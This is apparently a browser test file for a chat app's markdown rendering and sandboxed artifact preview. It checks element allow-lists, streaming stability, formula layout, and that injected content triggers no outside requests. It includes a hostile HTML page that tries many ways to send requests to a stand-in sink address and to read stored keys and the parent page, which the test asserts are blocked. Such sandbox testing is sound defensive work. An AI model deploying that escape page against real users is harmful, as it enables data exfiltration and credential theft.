/**
 * What a model wrote is on the page: texts that try to be more than text, formulas, and a page in the preview's frame
 * that tries every way out. The job: {url, sink}; `sink` is an address that hears every request that gets out.
 */
import { readFileSync } from "node:fs";
import { main } from "./driver.mjs";

const CORPUS = Object.values(JSON.parse(readFileSync(new URL("../vectors/injection.json", import.meta.url), "utf8"))).flat();
const STREAMED = readFileSync(new URL("../../docs/tutorial.md", import.meta.url), "utf8").slice(0, 6000);
/** Paragraphs that are kept in pieces, and some in which there is no place to cut. */
const ENDLESS = [`${"Words and words. ".repeat(400)}`, "一段很长的话，中间没有空格。".repeat(400), "👩‍👩‍👧‍👦".repeat(800), `${"x".repeat(1999)} y`, `${"x".repeat(2001)} ${"y".repeat(3000)}`];

/** Elements that words may become, with the attributes each may have besides class, title and aria-*. */
const ALLOWED = {
  div: ["data-wrap", "dir"], p: ["data-note"], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], blockquote: ["dir", "data-alert"], details: ["open"], summary: [], kbd: [], sub: [], sup: [], ul: ["dir"], ol: ["dir", "start"], li: [], hr: [], br: [],
  table: [], thead: [], tbody: [], tr: [], th: ["scope"], td: [], pre: [], code: ["translate"], em: [], strong: [], s: [], span: [],
  a: ["href", "target", "rel"], img: ["src", "alt", "loading"], input: ["type", "checked", "disabled"], button: ["type", "hidden"],
  svg: [], use: ["href"],
  math: ["alttext", "display"], mrow: [], mi: ["mathvariant"], mn: [], mo: ["stretchy", "form", "minsize", "maxsize", "lspace", "rspace", "movablelimits"],
  mtext: [], mspace: ["width"], mfrac: ["linethickness"], msqrt: [], mroot: [], msub: [], msup: [], msubsup: [], munder: ["accentunder"], mover: ["accent"],
  munderover: [], mtable: ["displaystyle"], mtr: [], mtd: [], mstyle: ["displaystyle"], mphantom: [], mpadded: ["width", "lspace"],
};
const EVERYWHERE = ["class", "title", "tabindex"];

/** Everything that could leave a page: what gets out arrives at the sink. */
const ESCAPES = (sink) => `<!doctype html><title>x</title>
<meta http-equiv="refresh" content="3;url=${sink}/meta">
<link rel="stylesheet" href="${sink}/css"><link rel="prefetch" href="${sink}/prefetch"><link rel="preconnect" href="${sink}/preconnect">
<style>@import "${sink}/import"; body { background: url(${sink}/background) } @font-face { font-family: x; src: url(${sink}/font) }</style>
<img src="${sink}/img"><iframe src="${sink}/iframe"></iframe><object data="${sink}/object"></object><video poster="${sink}/poster"></video>
<form id="form" action="${sink}/form" method="get" target="_top"><input name="q" value="1"></form>
<a id="link" href="${sink}/link" ping="${sink}/ping">x</a><a id="blank" href="${sink}/blank" target="_blank">x</a>
<p style="font: 1em x">x</p><script src="${sink}/script"></script>
<script>
const tries = {
  fetch: () => fetch("${sink}/fetch", { mode: "no-cors" }),
  xhr: () => { const one = new XMLHttpRequest(); one.open("GET", "${sink}/xhr"); one.send() },
  beacon: () => navigator.sendBeacon("${sink}/beacon", "x"),
  socket: () => new WebSocket("${sink}/socket".replace("http", "ws")),
  events: () => new EventSource("${sink}/events"),
  picture: () => { new Image().src = "${sink}/picture" },
  worker: () => new Worker("${sink}/worker"),
  dynamic: () => import("${sink}/dynamic"),
  opened: () => window.open("${sink}/opened"),
  top: () => { top.location = "${sink}/top" },
  parent: () => { parent.location.href = "${sink}/parent" },
  storage: () => localStorage.getItem("yaa.keys"),
  reach: () => parent.document.title,
  database: () => indexedDB.open("yaa"),
  peer: () => new RTCPeerConnection(),
  form: () => document.getElementById("form").submit(),
  link: () => document.getElementById("link").click(),
  blank: () => document.getElementById("blank").click(),
  location: () => { location.href = "${sink}/location" },
}
const said = {}
for (const [name, way] of Object.entries(tries)) {
  try { const found = way(); said[name] = "ran"; found?.catch?.(() => {}) } catch (error) { said[name] = String(error?.name ?? error) }
}
parent.postMessage({ said }, "*")
<\/script>`;

/** Where each begins to grow, and what must stay. */
const MORE = "|||, and then more words, `code` and [another](https://b.example) link";
const GROWING = [
  ["a", `See [this](https://a.example) page${MORE}`],
  ["a", `**See [this](https://a.example)** page${MORE}`],
  ["a", `- [this](https://a.example)\n- that${MORE}`],
  ["a", `1. one [this](https://a.example)${MORE}\n2. two`],
  ["a", `> [this](https://a.example) is said${MORE}`],
  ["a", `| a | b |\n|---|---|\n| [this](https://a.example) | 1 |\n| 2 ${MORE} |`],
  [".code", `1. run\n\n   \`\`\`sh\n   one\n   tw|||o\n   three\n   \`\`\`\n2. and **so** on`],
  ["button.file-link", `See [a](./a.txt) and${MORE}`],
  ["button.image-off", `![a](https://a.example/a.png) is a picture${MORE}`],
];

await main(async (walk, job) => {
  const { page } = walk;
  const requests = [];
  const home = new URL(".", job.url.split("#")[0]).href;
  // The page's own scripts come when there is time, and it asks after its server (from disk the usual one), and once what it could be connected to.
  const own = (url) => [home, "http://127.0.0.1:12345/"].some((top) => url.startsWith(top) &&
    /^(?:js|css|v|icons)\/|^(?:worker\.html|service-worker\.js|manifest\.\w+|health|info|settings)$/.test(url.slice(top.length)));
  page.on("request", (request) => own(request.url()) || requests.push(request.url()));

  await walk.step("open", async () => {
    await page.goto(job.url);
    await page.waitForSelector("form.composer textarea", { visible: true });
    await page.evaluate(() => Promise.all(["math", "code", "markup"].map(yaa.load)));
  });

  await walk.step("words stay words", async () => {
    const before = requests.length;
    const wrong = await page.evaluate((texts, allowed, everywhere) => {
      const { markdownView } = yaa.use("ui/markdown-view");
      const stage = document.createElement("div");
      document.body.append(stage);
      const wrong = [];
      for (const text of texts) {
        const view = markdownView();
        stage.replaceChildren(view.el);
        for (let end = 1; end < text.length; end += 5) view.update(text.slice(0, end));
        view.update(text);
        for (const el of view.el.querySelectorAll("*")) {
          const extra = allowed[el.localName];
          if (!extra) wrong.push(`<${el.localName}> from ${text}`);
          for (const { name, value } of el.attributes) {
            if (extra?.includes(name) || everywhere.includes(name) || name.startsWith("aria-")) continue;
            wrong.push(`${name}="${value}" on <${el.localName}> from ${text}`);
          }
          const href = el.localName === "a" ? el.getAttribute("href") : null;
          if (href !== null && !/^(?:https?:|mailto:)/.test(href)) wrong.push(`${href} from ${text}`);
        }
      }
      stage.remove();
      return wrong;
    }, CORPUS, ALLOWED, EVERYWHERE);
    if (wrong.length) throw new Error(wrong.slice(0, 20).join("\n"));
    // The page asks for the list of kept sessions by itself.
    const isWords = (url) => !url.startsWith("data:") && !/^http:\/\/[\w.]+:\d+\/keeper\/sessions\?limit=50$/.test(url);
    const made = requests.slice(before).filter(isWords);
    if (made.length) throw new Error(`requests: ${made.join(" ")}`);
    return { texts: CORPUS.length };
  });

  await walk.step("streamed, the page is the same as at once", async () => {
    const differ = await page.evaluate((texts) => {
      const { markdownView } = yaa.use("ui/markdown-view");
      const differ = [];
      for (const text of texts) {
        const [streamed, whole] = [markdownView(), markdownView()];
        for (let end = 1; end < text.length; end += Math.max(3, text.length >> 8)) streamed.update(text.slice(0, end));
        streamed.update(text);
        whole.update(text);
        if (!streamed.el.isEqualNode(whole.el)) differ.push(text.slice(0, 200));
      }
      return differ;
    }, [...CORPUS, STREAMED, ...ENDLESS]);
    if (differ.length) throw new Error(differ.join("\n---\n"));
  });

  await walk.step("what is there stays while more comes: a link that is pressed or has the focus, a code that is copied", async () => {
    const lost = await page.evaluate(async (texts) => {
      const lost = [];
      for (const [css, text] of texts) {
        const view = yaa.use("ui/markdown-view").markdownView();
        const from = text.indexOf("|||");
        view.update(text.slice(0, from));
        await yaa.load("markup"); // what it draws is there
        const first = view.el.querySelector(css);
        for (let end = from; end < text.length; end += 3) view.update(text.replace("|||", "").slice(0, end));
        if (!first || !view.el.contains(first)) lost.push(text);
      }
      return lost;
    }, GROWING);
    if (lost.length) throw new Error(lost.join("\n---\n"));
  });

  await walk.step("a long paragraph grows at its end, and is still one text", async () => {
    const found = await page.evaluate((text) => {
      const view = yaa.use("ui/markdown-view").markdownView();
      view.update(text.slice(0, 3000));
      const paragraph = view.el.querySelector("p");
      const [first, second] = paragraph.childNodes;
      const length = second.length;
      view.update(text);
      return {
        stays: paragraph.firstChild === first && paragraph.childNodes[1] === second && second.length > length,
        pieces: paragraph.childNodes.length, most: Math.max(...[...paragraph.childNodes].map((one) => one.length)), whole: paragraph.textContent === text.trim(),
      };
    }, ENDLESS[0]);
    if (!found.stays || found.pieces !== 4 || found.most > 2100 || !found.whole) throw new Error(JSON.stringify(found));
  });

  await walk.step("a session full of it", async () => {
    const before = requests.length;
    const id = await page.evaluate(async (texts) => {
      const pick = (i) => texts[i % texts.length];
      const messages = texts.slice(0, 120).flatMap((text, i) => [
        { id: `u${i}`, role: "user", content: text },
        { id: `a${i}`, role: "assistant", content: pick(i + 1), reasoning: { field: "reasoning", text: pick(i + 2) }, meta: { model: pick(i + 3), provider: pick(i + 4) },
          tool_calls: [{ id: `c${i}`, type: "function", function: { name: pick(i + 5), arguments: JSON.stringify({ [pick(i + 6)]: pick(i + 7) }) } }] },
        { id: `t${i}`, role: "tool", tool_call_id: `c${i}`, name: pick(i + 5), content: pick(i + 8) },
        { id: `e${i}`, role: "error", content: pick(i + 9), code: pick(i + 10) },
      ]);
      const session = { id: "evil", title: pick(0), messages, calls: {}, interrupts: [{ id: "q", reason: "input_required", message: pick(2), response_schema: { type: "object", properties: { [pick(3)]: { type: "string", title: pick(4), enum: [pick(5)] } } } }] };
      const store = await yaa.use("io/store-idb").open();
      await store.put(session);
      return session.id;
    }, CORPUS);
    await page.goto("about:blank");
    await page.goto(`${job.url.split("#")[0]}#s=${id}`);
    await page.waitForFunction(() => document.querySelectorAll("article.message").length > 100);
    await page.evaluate(() => document.querySelectorAll("details").forEach((one) => { one.open = true; }));
    const wrong = await page.evaluate(() => [...document.querySelectorAll("#app :is(script, iframe, object, embed, link, meta, base, style, video, audio, frame, portal, template), article.message [style], #app [srcset], #app [ping]")].map((el) => el.outerHTML.slice(0, 200)));
    const handlers = await page.evaluate(() => [...document.querySelectorAll("#app *")].flatMap((el) => [...el.attributes].filter(({ name }) => name.startsWith("on")).map(({ name }) => name)));
    if (wrong.length || handlers.length) throw new Error([...wrong.slice(0, 10), ...handlers].join("\n"));
    const foreign = requests.slice(before).filter((url) => url.includes("evil.test"));
    if (foreign.length) throw new Error(foreign.join(" "));
    await walk.shot("1-evil");
  });

  await walk.step("formulas", async () => {
    const long = "a_1" + " + a_1".repeat(60);
    const text = "Euler: $e^{i\\pi}+1=0$, and\n\n$$\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}, \\qquad A = \\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$\n\n$$f(x)=\\begin{cases} x^2 & x>0 \\\\ \\sqrt[3]{-x} & \\text{otherwise} \\end{cases}$$\n\n\\[ \\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2} \\]\n\n$$\\begin{aligned} a &= b \\\\ a+b+c &= d \\end{aligned}$$\n\nand $\\unknown{x}$ stays code.\n\n" + `Long: $${long}$ can be moved.` + "\n\n```svg\n<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 10'><circle cx='5' cy='5' r='4' fill='teal'/></svg>\n```\n\n```html\n<h1>Hi</h1>\n```\n";
    await page.evaluate(async (words) => {
      const store = await yaa.use("io/store-idb").open();
      await store.put({ id: "sums", title: "Sums", messages: [{ id: "u", role: "user", content: "Sums" }, { id: "a", role: "assistant", content: words, meta: { model: "m".repeat(300) } }] });
    }, text);
    await page.goto("about:blank");
    await page.goto(`${job.url.split("#")[0]}#s=sums`);
    await page.waitForFunction(() => document.querySelectorAll("article math").length === 6);
    const seen = await page.evaluate(() => {
      const [, sum] = document.querySelectorAll("article math");
      const [fraction] = sum.querySelectorAll("mfrac");
      const box = (el) => el.getBoundingClientRect();
      const [left, right] = [...document.querySelectorAll("article mtable.aligned mtr")].map((line) => line.children[0].lastChild).map((el) => box(el).right);
      return { met: Math.abs(left - right) < 1, stacked: box(fraction.children[0]).bottom <= box(fraction.children[1]).top + 1, code: document.querySelector("article .formula code")?.textContent };
    });
    if (!seen.met || !seen.stacked || seen.code !== "\\unknown{x}") throw new Error(JSON.stringify(seen));
    // what is wider than the column is moved or wrapped, and stands on the line like any other
    const wide = await page.evaluate(() => {
      const edge = document.querySelector("article").getBoundingClientRect().right;
      const formulas = [...document.querySelectorAll("article p > span.formula")].filter((one) => one.querySelector("math"));
      const [short, long] = formulas.map((one) => ({ own: one.getBoundingClientRect(), more: one.scrollWidth > one.clientWidth }));
      const past = [...document.querySelectorAll("article .formula, article .message-foot span")].filter((one) => one.getBoundingClientRect().right > edge + 1);
      return { past: past.length, moves: [short.more, long.more] };
    });
    if (wide.past || String(wide.moves) !== "false,true") throw new Error(JSON.stringify(wide));
    await walk.shot("2-formulas");
    await walk.clean();
  });

  await walk.step("a preview, beside the thread", async () => {
    await walk.press("Show it", "article .code button");
    await page.waitForSelector(".artifact iframe");
    const frame = await page.waitForFunction(() => document.querySelector(".artifact iframe").getAttribute("sandbox"));
    if ((await frame.jsonValue()) !== "allow-scripts") throw new Error("the sandbox is open");
    await walk.clean("the preview");
    await walk.shot("3-preview");
    const [main, panel] = await page.$$eval("main, aside.artifact", (all) => all.map((one) => one.getBoundingClientRect().toJSON()));
    if (main.right > panel.left || panel.right > 1280) throw new Error(JSON.stringify([main, panel]));
    await page.type("form.composer textarea", "x"); // nothing is in the way
    await page.keyboard.press("Backspace");
    await page.focus("aside.artifact button");
    await page.keyboard.press("Escape");
    await page.waitForFunction(() => !document.querySelector(".artifact") && document.activeElement.closest("article .code"));
    if (await page.$eval("main", (one) => one.getBoundingClientRect().right < innerWidth)) throw new Error("its place is left empty");
  });

  await walk.step("no way out of the frame", async () => {
    const said = await page.evaluate(async (text) => {
      await yaa.load("artifact");
      const heard = new Promise((resolve) => addEventListener("message", (event) => event.data?.said && resolve(event.data.said)));
      yaa.use("ext/artifact/preview").open(text, "html");
      return heard;
    }, ESCAPES(job.sink));
    for (const name of ["storage", "reach", "peer"]) if (said[name] === "ran") throw new Error(`${name} is reached from the frame`);
    // the refresh takes three seconds; what is to get out is out by then
    const until = Date.now() + 5000;
    await page.waitForFunction((end) => Date.now() > end, { polling: 200 }, until);
    const { answer: out } = await walk.ask("sink");
    const here = await page.evaluate(() => location.href);
    if (out.length || !here.startsWith(job.url.split("#")[0])) throw new Error(`${out.join(" ")} ${here}`);
    return { tried: Object.keys(said).length };
  });
});
